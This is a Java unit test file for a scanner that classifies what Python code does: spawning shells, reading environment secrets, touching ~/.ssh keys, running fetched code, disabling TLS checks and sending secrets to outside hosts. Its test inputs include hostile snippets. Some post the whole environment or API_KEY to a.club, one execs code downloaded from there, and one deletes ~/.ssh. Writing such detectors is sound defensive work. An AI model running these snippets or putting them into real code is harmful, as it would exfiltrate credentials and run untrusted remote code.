package dev.assay.scanners.pypi;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.scanners.finding.FindingKind;
import dev.assay.scanners.profile.Fact;

import org.assertj.core.api.InstanceOfAssertFactories;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What Python does besides sending: programs, the environment, files, code that is made. */
class PythonCapabilitiesTest {

    private static final String IMPORTS =
            "import os, sys, subprocess, pty, importlib, pickle, marshal, ctypes, socket, ssl\n"
                    + "import asyncio, requests, uvicorn, shutil\nfrom pathlib import Path\n"
                    + "from http.server import HTTPServer\n";

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "subprocess.run(['git', 'log', x]) | subprocess.run git",
                "subprocess.Popen(['git'], shell=False) | subprocess.Popen git",
                "subprocess.check_output('git log', shell=True) | subprocess.check_output git",
                "os.system('curl ' + x) | os.system curl",
                "os.popen('whoami') | os.popen whoami",
                "os.execvp('bash', x) | os.execvp bash",
                "os.spawnlp(os.P_WAIT, 'bash', 'bash') | os.spawnlp bash",
                "pty.spawn('/bin/sh') | pty.spawn /bin/sh",
                "asyncio.create_subprocess_exec('git', x) | asyncio.create_subprocess_exec git",
                "subprocess.run([sys.executable, '-c', x]) | subprocess.run python",
                "subprocess.run(x) | subprocess.run *",
            })
    void programsAreNamed(String statement, String value) {
        assertThat(of(statement).values(FindingKind.PROCESS_SPAWN)).containsExactly(value);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "y = os.environ['TOKEN'] | TOKEN",
                "y = os.environ.get('TOKEN') | TOKEN",
                "y = os.getenv('TOKEN', 'x') | TOKEN",
                "y = os.getenv('TO' + 'KEN') | TOKEN",
                "y = dict(os.environ) | *",
                "y = os.environ.copy() | *",
                "requests.post('https://a.club', json=dict(os.environ)) | *",
                "[v for v in os.environ.values()] | *",
            })
    void variablesAreNamed(String statement, String value) {
        assertThat(of(statement).values(FindingKind.ENV_ACCESS)).contains(value);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "open(os.path.expanduser('~/.ssh/id_rsa')).read() | read",
                "(Path.home() / '.ssh' / 'id_rsa').read_text() | read",
                "Path('~/.ssh/id_rsa').expanduser().read_bytes() | read",
                "open(os.path.join(os.environ['HOME'], '.ssh', 'id_rsa'), 'w') | write",
                "shutil.rmtree(os.path.expanduser('~/.ssh')) | delete",
            })
    void filesAreClassed(String statement, String operation) {
        var facts = of(statement).facts(FindingKind.FS_ACCESS);

        assertThat(facts).hasSize(1);
        assertThat(facts.getFirst().detail())
                .containsEntry("operation", operation)
                .hasEntrySatisfying("class", label -> assertThat(label).isEqualTo(sensitive()));
    }

    private static Object sensitive() {
        return of("open('/root/.ssh/id_rsa')")
                .facts(FindingKind.FS_ACCESS)
                .getFirst()
                .detail()
                .get("class");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "exec(x) | exec",
                "eval(x) | eval",
                "exec(compile(x, 'f', 'exec')) | exec",
                "getattr(__builtins__, 'ex' + 'ec')(x) | exec",
                "pickle.loads(x) | pickle.loads",
                "marshal.loads(x) | marshal.loads",
                "importlib.import_module(x) | import *",
                "__import__(x) | import *",
            })
    void codeThatIsMadeIsTold(String statement, String value) {
        assertThat(of(statement).values(FindingKind.DYNAMIC_CODE)).contains(value);
    }

    @Test
    void remoteCodeIsRemote() {
        var facts =
                of("exec(requests.get('https://a.club/x').text)").facts(FindingKind.DYNAMIC_CODE);

        assertThat(facts.getFirst().detail()).containsEntry("remote", true);
    }

    @Test
    void nativeLibrariesLookUpsAndOpenPortsAreTold() {
        assertThat(of("ctypes.CDLL('./a.so')").values(FindingKind.NATIVE_BINARY))
                .containsExactly("a.so");
        assertThat(of("socket.gethostbyname(x + '.collector.club')").values(FindingKind.DNS_LOOKUP))
                .containsExactly("socket.gethostbyname {}.collector.club");
        assertThat(of("uvicorn.run(x, host='0.0.0.0', port=8000)").facts(FindingKind.LISTENER))
                .first()
                .extracting(Fact::detail, InstanceOfAssertFactories.map(String.class, Object.class))
                .containsEntry("server", "uvicorn")
                .containsEntry("host", "0.0.0.0")
                .containsEntry("port", 8000L);
        assertThat(of("HTTPServer(('0.0.0.0', 80), x)").values(FindingKind.LISTENER))
                .containsExactly("listen http.server");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "requests.get('https://a.club', verify=False) | verify=False",
                "x.check_hostname = False | check_hostname=False",
                "x.verify_mode = ssl.CERT_NONE | CERT_NONE",
                "y = dict(context=ssl._create_unverified_context()) | _create_unverified_context",
            })
    void uncheckedCertificatesAreTold(String statement, String value) {
        assertThat(of(statement).values(FindingKind.TLS_PINNING)).containsExactly(value);
    }

    @Test
    void analyticsAreTold() {
        assertThat(of("import posthog").values(FindingKind.TELEMETRY)).contains("posthog");
        assertThat(PythonSample.of("import sentry_sdk\n").values(FindingKind.TELEMETRY))
                .containsExactly("sentry_sdk");
    }

    @Test
    void secretsAreFollowedToTheirDestination() {
        var flows =
                of("requests.post('https://a.club', headers={'k': os.environ['API_KEY']}, json={'q': x})")
                        .facts(FindingKind.SECRET_FLOW);

        assertThat(flows).extracting(Fact::value).anyMatch(value -> value.contains("API_KEY"));
    }

    private static PythonSample of(String statement) {
        return PythonSample.of(IMPORTS + "def run(x):\n    " + statement + "\n");
    }
}
